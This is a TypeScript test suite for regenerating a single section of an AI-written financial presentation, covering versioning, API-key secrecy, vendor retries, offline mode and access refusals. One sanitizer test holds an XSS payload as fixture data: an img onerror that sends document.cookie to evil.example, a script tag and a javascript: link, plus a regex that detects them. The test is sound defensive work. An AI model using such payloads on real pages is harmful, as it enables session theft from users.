import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';

import { EDIT_MESSAGES, type TRegenerateSectionInput } from '@pitchcraft/core';
import { parseDocument, type TPresentationDocument } from '@pitchcraft/core/document';
import { eq, generations, presentations, presentationVersions, sql } from '@pitchcraft/db';

import type { JobEvent as GenerationEvent } from '../../engine';
import type { Logger } from '../../logger';
import {
  collectEvents,
  createHarness,
  startFakeAnthropic,
  startInput,
  type FakeAnthropic,
  type Harness,
  type TestBrowser,
} from '../../testing';
import { SECTION_UNUSABLE_MESSAGE } from '../../writing/document-builder';
import { regeneratedSummary } from './section-job';

// Every log line, so the test can prove an advisor's key never reaches the logs.
const logLines: string[] = [];
const capturingLogger: Logger = {
  info: (o, m) => void logLines.push(JSON.stringify([o, m])),
  warn: (o, m) => void logLines.push(JSON.stringify([o, m])),
  error: (o, m) => void logLines.push(JSON.stringify([o, m, o instanceof Error ? o.stack : ''])),
  debug: (o, m) => void logLines.push(JSON.stringify([o, m])),
  child: () => capturingLogger,
};

let h: Harness;
let vendor: FakeAnthropic;

const SECTION_IDS = [
  'cover',
  'where-you-are',
  'what-you-need',
  'recommendation',
  'costs-and-benefits',
  'questions',
  'next-steps',
  'advisor',
  'important-information',
];
const TARGET = 'what-you-need';
const NEEDS =
  '<div class="pc-needs"><figure data-chart="need-breakdown"></figure><div data-block="needs-table"></div></div>';

/** A whole presentation in the section contract, as the AI wrote it the first time. */
function wholeReply(): string {
  return SECTION_IDS.map(
    (id) =>
      `<section id="${id}">\n<h2>Heading for ${id}</h2>\n<p class="pc-lead">Written by the AI for ${id}: coverage that fits the family and the budget.</p>${id === TARGET ? NEEDS : '<p>Total need <span data-figure="total-need"></span>.</p>'}\n</section>\n`,
  ).join('');
}

/** The AI's reply to a one-section request. */
const sectionReply = (body: string, title = 'What you really need', id = TARGET) =>
  `<section id="${id}">\n<h2>${title}</h2>\n${body}\n</section>\n`;
const NEW_TEXT = 'A fresh explanation of the mortgage and the family’s protection needs.';
const GOOD_BODY = `<p class="pc-lead">${NEW_TEXT} The total is <span data-figure="total-need"></span>.</p>${NEEDS}`;

/** An AI-written presentation, saved. */
async function savedPresentation(owner: TestBrowser): Promise<string> {
  vendor.enqueue({ kind: 'stream', chunks: [wholeReply()] });
  const { id } = await owner.caller.generation.start(startInput({ apiKey: 'sk-ant-test' }));
  expect((await collectEvents(await owner.caller.generation.events({ id }))).at(-1)?.type).toBe(
    'done',
  );
  const saved = await owner.caller.presentations.save({ generationId: id });
  return saved.id;
}

async function stored(id: string) {
  const [row] = await h.db.select().from(presentations).where(eq(presentations.id, id));
  if (!row) throw new Error('presentation missing');
  const document = parseDocument(row.document);
  if (!document) throw new Error('document missing');
  return { row, document };
}

/** Starts a regeneration and follows it to its end. */
async function regenerate(
  owner: TestBrowser,
  input: Omit<TRegenerateSectionInput, 'sectionId'> & { sectionId?: string },
) {
  const started = await owner.caller.presentations.regenerateSection({
    sectionId: TARGET,
    ...input,
  });
  const events = await collectEvents(await owner.caller.generation.events({ id: started.id }));
  return { ...started, events, last: events.at(-1) };
}

const sectionsOf = (events: GenerationEvent[]) =>
  events.flatMap((e) => (e.type === 'section' ? [e.section] : []));
const others = (document: TPresentationDocument) =>
  document.sections.filter((s) => s.id !== TARGET);

beforeAll(async () => {
  vendor = await startFakeAnthropic();
  h = await createHarness({
    anthropicBaseURL: vendor.url,
    log: capturingLogger,
    rateLimits: false,
  });
});
afterAll(async () => {
  await h.close();
  await vendor.close();
});
beforeEach(() => {
  vendor.requests.length = 0;
});

describe('regenerating one section with the AI', () => {
  it('rewrites section 3 only: every other section stays byte for byte, and a version is recorded', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    const before = await stored(id);
    vendor.requests.length = 0;
    vendor.enqueue({
      kind: 'stream',
      chunks: [sectionReply(GOOD_BODY).slice(0, 60), sectionReply(GOOD_BODY).slice(60)],
    });
    const instruction = 'Shorter, and focus on the mortgage';
    const {
      id: generationId,
      provider,
      last,
      events,
    } = await regenerate(owner, { id, instruction, apiKey: 'sk-ant-user-secret-key-456' });
    expect(provider).toBe('anthropic');
    expect(last?.type).toBe('done');

    // The advisor watches the one section arrive, then gets the new page.
    expect(sectionsOf(events).map((s) => [s.id, s.title, s.source])).toEqual([
      [TARGET, 'What you really need', 'ai'],
    ]);
    const after = await stored(id);
    if (last?.type !== 'done') throw new Error('not done');
    expect(last.html).toBe(after.row.htmlContent);
    expect(after.row.htmlContent).toContain(NEW_TEXT);
    expect(after.row.htmlContent).toMatch(/data-figure="total-need">\$[\d,]+</);

    // Byte comparison of the stored sections: only section 3 changed.
    expect(after.document.sections.map((s) => s.id)).toEqual(SECTION_IDS);
    expect(others(after.document).map((s) => JSON.stringify(s))).toEqual(
      others(before.document).map((s) => JSON.stringify(s)),
    );
    for (const [i, section] of after.document.sections.entries()) {
      if (section.id !== TARGET) expect(section.html).toBe(before.document.sections[i]?.html);
    }
    const [oldThird, newThird] = [before.document.sections[2], after.document.sections[2]];
    expect(newThird?.html).not.toBe(oldThird?.html);
    expect(newThird).toMatchObject({
      id: TARGET,
      kind: TARGET,
      title: 'What you really need',
      source: 'ai',
      hidden: false,
      replaced: null,
      charts: ['need-breakdown'],
    });
    expect(newThird?.html).toContain(NEW_TEXT);
    // The frame (theme, advisor, client, date) is the presentation's own.
    expect({ ...after.document, sections: [] }).toEqual({ ...before.document, sections: [] });

    // A new version, with what changed.
    expect(after.row.version).toBe(before.row.version + 1);
    const versions = await h.db
      .select()
      .from(presentationVersions)
      .where(eq(presentationVersions.presentationId, id));
    const latest = versions.find((v) => v.number === after.row.version);
    expect(latest).toMatchObject({
      change: 'section-regenerated',
      summary: `Regenerated Heading for ${TARGET}: "${instruction}"`,
      htmlContent: after.row.htmlContent,
    });

    // The instruction reached the vendor inside the user message, with the one-section request.
    expect(vendor.requests).toHaveLength(1);
    const body = vendor.requests[0]!.body;
    const user = body.messages[0]!.content;
    expect(user).toContain(instruction);
    expect(user).toContain(`Write exactly one section now: <section id="${TARGET}">`);
    expect(user).toContain('Heading for where-you-are');
    expect(body.system ?? '').not.toContain(instruction);
    expect(body.max_tokens).toBe(25000);
    expect(
      vendor.requests[0]?.headers['x-api-key'] ?? vendor.requests[0]?.headers.authorization,
    ).toContain('sk-ant-user-secret-key-456');

    // The generation row holds the target and the new page, and never the key.
    const [generation] = await h.db
      .select()
      .from(generations)
      .where(eq(generations.id, generationId));
    expect(generation).toMatchObject({
      status: 'succeeded',
      html: after.row.htmlContent,
      target: { kind: 'section', presentationId: id, sectionId: TARGET, instruction },
    });
    const dump = JSON.stringify(await h.db.execute(sql`select * from generations`));
    expect(dump).not.toContain('sk-ant-user-secret-key-456');
    expect(logLines.join('\n')).not.toContain('sk-ant-user-secret-key-456');
  });
});

describe('what the AI writes', () => {
  it('stores a hostile reply without its script, handlers or javascript: links', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    const before = await stored(id);
    vendor.enqueue({
      kind: 'stream',
      chunks: [
        sectionReply(
          `<p class="pc-lead">${NEW_TEXT}</p><img src=x onerror="fetch('https://evil.example/'+document.cookie)"><script>alert(document.domain)</script><p onclick="steal()">Call <a href="javascript:alert(1)">here</a> or <a href="tel:+15550142">the office</a>.</p>${NEEDS}`,
        ),
      ],
    });
    const { last } = await regenerate(owner, { id, apiKey: 'sk-ant-test' });
    expect(last?.type).toBe('done');
    const after = await stored(id);
    const third = after.document.sections.find((s) => s.id === TARGET);
    expect(third?.html).toContain(NEW_TEXT);
    expect(third?.html).toContain('href="tel:+15550142"');
    expect(third?.html).not.toMatch(
      /<img|<script|\son(error|click)\s*=|javascript:|evil\.example|alert\(/i,
    );
    // (The runtime script's own `s.onerror=` handler is ours; no element carries a handler.)
    expect(after.row.htmlContent).not.toMatch(
      /<img|\son(error|click)\s*=|javascript:|evil\.example|alert\(document/i,
    );
    expect(others(after.document)).toEqual(others(before.document));
  });

  it.each([
    [
      'a typed figure',
      sectionReply(
        `<p class="pc-lead">${NEW_TEXT} It costs $45 a month, a figure we typed ourselves.</p>${NEEDS}`,
      ),
    ],
    ['garbage', 'Sorry, I cannot help with that. '.repeat(20)],
    ['another section only', sectionReply(GOOD_BODY, 'The cover', 'cover')],
    ['an unfinished section', sectionReply(GOOD_BODY).slice(0, 120)],
    ['an empty section', sectionReply('<p></p>')],
  ])('fails the job on %s and leaves the presentation unchanged', async (_label, output) => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    const before = await stored(id);
    const versionsBefore = await h.db
      .select()
      .from(presentationVersions)
      .where(eq(presentationVersions.presentationId, id));
    vendor.enqueue({ kind: 'stream', chunks: [output] });
    const {
      id: generationId,
      last,
      events,
    } = await regenerate(owner, { id, instruction: 'shorter', apiKey: 'sk-ant-test' });
    expect(last).toEqual({
      type: 'error',
      message: SECTION_UNUSABLE_MESSAGE,
      reason: 'OUTPUT_INVALID',
    });
    expect(sectionsOf(events)).toEqual([]);
    const after = await stored(id);
    expect(after.row.htmlContent).toBe(before.row.htmlContent);
    expect(after.row.version).toBe(before.row.version);
    expect(after.row.document).toEqual(before.row.document);
    expect(
      await h.db
        .select()
        .from(presentationVersions)
        .where(eq(presentationVersions.presentationId, id)),
    ).toHaveLength(versionsBefore.length);
    const [generation] = await h.db
      .select()
      .from(generations)
      .where(eq(generations.id, generationId));
    expect(generation).toMatchObject({
      status: 'failed',
      html: null,
      error: SECTION_UNUSABLE_MESSAGE,
    });
  });

  it('retries a busy vendor with a notice, through the same machinery', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    vendor.requests.length = 0;
    vendor.enqueue(
      {
        kind: 'stream-error',
        chunks: [sectionReply(GOOD_BODY).slice(0, 80)],
        errorType: 'overloaded_error',
      },
      { kind: 'stream', chunks: [sectionReply(GOOD_BODY)] },
    );
    const { last, events } = await regenerate(owner, { id, apiKey: 'sk-ant-test' });
    expect(last?.type).toBe('done');
    expect(events.some((e) => e.type === 'notice' && e.title === 'Service temporarily busy')).toBe(
      true,
    );
    expect(vendor.requests).toHaveLength(2);
    expect((await stored(id)).document.sections.find((s) => s.id === TARGET)?.html).toContain(
      NEW_TEXT,
    );
  }, 20_000);

  it('replays the one section and the result to a subscriber that comes back after the end', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    vendor.enqueue({ kind: 'stream', chunks: [sectionReply(GOOD_BODY)] });
    const { id: generationId, last } = await regenerate(owner, { id, apiKey: 'sk-ant-test' });
    expect(last?.type).toBe('done');
    const again = await collectEvents(await owner.caller.generation.events({ id: generationId }));
    expect(again.map((e) => e.type)).toEqual(['section', 'done']);
    const state = await owner.caller.generation.get({ id: generationId });
    expect(state).toMatchObject({
      status: 'succeeded',
      target: { kind: 'section', presentationId: id, sectionId: TARGET },
    });
    expect(state.sections.map((s) => s.id)).toEqual([TARGET]);
  });

  it('keeps an edit saved while the section was being written', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    const reply = sectionReply(GOOD_BODY);
    const chunks = Array.from({ length: 8 }, (_, i) =>
      reply.slice(Math.floor((i * reply.length) / 8), Math.floor(((i + 1) * reply.length) / 8)),
    );
    vendor.enqueue({ kind: 'stream', chunks, delayMs: 40 });
    const started = await owner.caller.presentations.regenerateSection({
      id,
      sectionId: TARGET,
      apiKey: 'sk-ant-test',
    });
    // Another tab edits the cover meanwhile (as a save would: the document changes).
    const { row, document } = await stored(id);
    const edited = {
      ...document,
      sections: document.sections.map((s) =>
        s.id === 'cover'
          ? { ...s, html: '<p>Edited while regenerating.</p>', source: 'edited' as const }
          : s,
      ),
    };
    await h.db
      .update(presentations)
      .set({ document: edited, version: row.version + 1 })
      .where(eq(presentations.id, id));
    const events = await collectEvents(await owner.caller.generation.events({ id: started.id }));
    expect(events.at(-1)?.type).toBe('done');
    const after = await stored(id);
    expect(after.document.sections.find((s) => s.id === 'cover')?.html).toBe(
      '<p>Edited while regenerating.</p>',
    );
    expect(after.document.sections.find((s) => s.id === TARGET)?.html).toContain(NEW_TEXT);
  });
});

describe('the built-in generator', () => {
  it('writes its own version of the section when asked for offline mode', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    const before = await stored(id);
    vendor.requests.length = 0;
    const { provider, last, events } = await regenerate(owner, {
      id,
      mode: 'offline',
      instruction: 'focus on the mortgage',
    });
    expect(provider).toBe('offline');
    expect(last?.type).toBe('done');
    expect(vendor.requests).toHaveLength(0);
    expect(sectionsOf(events).map((s) => [s.id, s.source])).toEqual([[TARGET, 'built-in']]);
    const after = await stored(id);
    const third = after.document.sections.find((s) => s.id === TARGET);
    expect(third).toMatchObject({ source: 'built-in', replaced: null, hidden: false });
    expect(third?.html).not.toBe(before.document.sections.find((s) => s.id === TARGET)?.html);
    expect(third?.html).toContain('data-chart="need-breakdown"');
    expect(others(after.document).map((s) => JSON.stringify(s))).toEqual(
      others(before.document).map((s) => JSON.stringify(s)),
    );
    expect(after.row.version).toBe(before.row.version + 1);
    expect(after.row.htmlContent).toContain('data-source="built-in"');
  });

  it('is used in auto mode when no key is available', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    const { provider, last } = await regenerate(owner, { id });
    expect(provider).toBe('offline');
    expect(last?.type).toBe('done');
  });

  it('offers another wording every time, never the text the section already has, and says what it did', async () => {
    const owner = await h.subscribedBrowser();
    const { id: generationId } = await owner.caller.generation.start(
      startInput({ mode: 'offline' }),
    );
    await collectEvents(await owner.caller.generation.events({ id: generationId }));
    const { id } = await owner.caller.presentations.save({ generationId });
    const texts = [(await stored(id)).document.sections.find((s) => s.id === TARGET)?.html];
    for (let i = 0; i < 2; i += 1) {
      expect(
        (
          await regenerate(owner, {
            id,
            mode: 'offline',
            instruction: 'mention the trip to Lisbon',
          })
        ).last?.type,
      ).toBe('done');
      texts.push((await stored(id)).document.sections.find((s) => s.id === TARGET)?.html);
    }
    expect(texts[1]).not.toBe(texts[0]);
    expect(texts[2]).not.toBe(texts[1]);
    const { items } = await owner.caller.presentations.versions.list({ id });
    // The built-in writer cannot follow a free instruction, so its versions do not quote one.
    expect(items.find((v) => v.current)?.summary).toMatch(
      /^Regenerated .+ in another wording \(built-in writer\)$/,
    );
  });

  it('says plainly when it has no other wording, and stores no version', async () => {
    const owner = await h.subscribedBrowser();
    const { id: generationId } = await owner.caller.generation.start(
      startInput({ mode: 'offline' }),
    );
    await collectEvents(await owner.caller.generation.events({ id: generationId }));
    const { id } = await owner.caller.presentations.save({ generationId });
    const before = await stored(id);
    const { last } = await regenerate(owner, {
      id,
      mode: 'offline',
      sectionId: 'important-information',
      instruction: 'shorter',
    });
    expect(last).toMatchObject({ type: 'error', message: EDIT_MESSAGES.noOtherVersion });
    const after = await stored(id);
    expect(after.row.version).toBe(before.row.version);
    expect(after.row.htmlContent).toBe(before.row.htmlContent);
  });

  it('keeps a hidden section hidden', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    const { document } = await stored(id);
    const hidden = {
      ...document,
      sections: document.sections.map((s) => (s.id === TARGET ? { ...s, hidden: true } : s)),
    };
    await h.db.update(presentations).set({ document: hidden }).where(eq(presentations.id, id));
    expect((await regenerate(owner, { id, mode: 'offline' })).last?.type).toBe('done');
    expect((await stored(id)).document.sections.find((s) => s.id === TARGET)).toMatchObject({
      hidden: true,
      source: 'built-in',
    });
  });
});

describe('refusals', () => {
  it('gives another advisor NOT_FOUND and creates nothing', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    const before = await stored(id);
    const other = await h.subscribedBrowser();
    vendor.requests.length = 0;
    await expect(
      other.caller.presentations.regenerateSection({
        id,
        sectionId: TARGET,
        apiKey: 'sk-ant-test',
      }),
    ).rejects.toMatchObject({ code: 'NOT_FOUND' });
    expect(
      await h.db.select().from(generations).where(eq(generations.userId, other.user.id)),
    ).toHaveLength(0);
    expect(vendor.requests).toHaveLength(0);
    const after = await stored(id);
    expect(after.row.version).toBe(before.row.version);
    expect(after.row.htmlContent).toBe(before.row.htmlContent);
  });

  it('refuses signed-out and unsubscribed callers', async () => {
    await expect(
      h.browser().caller.presentations.regenerateSection({ id: 'x', sectionId: TARGET }),
    ).rejects.toMatchObject({ code: 'UNAUTHORIZED' });
    const unsubscribed = await h.signedUpBrowser();
    await expect(
      unsubscribed.caller.presentations.regenerateSection({ id: 'x', sectionId: TARGET }),
    ).rejects.toMatchObject({ code: 'FORBIDDEN' });
  });

  it('refuses a presentation saved before documents', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    await h.db.update(presentations).set({ document: null }).where(eq(presentations.id, id));
    await expect(
      owner.caller.presentations.regenerateSection({ id, sectionId: TARGET, mode: 'offline' }),
    ).rejects.toMatchObject({
      code: 'BAD_REQUEST',
      message: EDIT_MESSAGES.noDocument,
    });
    // Only the generation that wrote the presentation: no job was started.
    expect(
      await h.db.select().from(generations).where(eq(generations.userId, owner.user.id)),
    ).toHaveLength(1);
    const [row] = await h.db.select().from(presentations).where(eq(presentations.id, id));
    expect(row?.document).toBeNull();
  });

  it('refuses a section the presentation does not have, and a long instruction', async () => {
    const owner = await h.subscribedBrowser();
    const id = await savedPresentation(owner);
    await expect(
      owner.caller.presentations.regenerateSection({
        id,
        sectionId: 'not-a-section',
        mode: 'offline',
      }),
    ).rejects.toMatchObject({
      code: 'BAD_REQUEST',
      message: EDIT_MESSAGES.noSuchSection,
    });
    await expect(
      owner.caller.presentations.regenerateSection({
        id,
        sectionId: TARGET,
        instruction: 'x'.repeat(501),
      }),
    ).rejects.toMatchObject({
      code: 'BAD_REQUEST',
      message: 'Instructions are at most 500 characters',
    });
  });
});

describe('the version summary', () => {
  it('names the section and quotes the instruction, cut to 80 characters', () => {
    expect(regeneratedSummary('What you need', '')).toBe('Regenerated What you need');
    expect(regeneratedSummary('What you need', ' shorter,\n please ')).toBe(
      'Regenerated What you need: "shorter, please"',
    );
    const summary = regeneratedSummary('Costs', 'y'.repeat(200));
    expect(summary).toBe(`Regenerated Costs: "${'y'.repeat(79)}…"`);
  });
});
